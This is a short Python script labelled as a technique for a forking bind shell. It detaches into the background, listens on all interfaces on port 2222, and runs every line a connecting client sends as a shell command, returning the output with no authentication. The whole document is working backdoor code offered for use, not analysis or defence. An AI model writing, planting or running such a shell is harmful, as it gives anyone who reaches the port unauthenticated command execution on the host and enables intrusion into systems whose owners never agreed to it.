# technique: forking bind shell that double-forks into the background and serves a line-oriented command loop
import os, socket, subprocess, sys
if os.fork(): sys.exit()
os.setsid()
l = socket.socket(); l.setsockopt(1, 2, 1); l.bind(("0.0.0.0", 2222)); l.listen(3)
while 1:
    c, _ = l.accept()
    if os.fork() == 0:
        f = c.makefile("rwb", buffering=0)
        while 1:
            f.write(b"> ")
            line = f.readline()
            if not line: break
            f.write(subprocess.getoutput(line.decode().strip()).encode() + b"\n")
        os._exit(0)
    c.close()
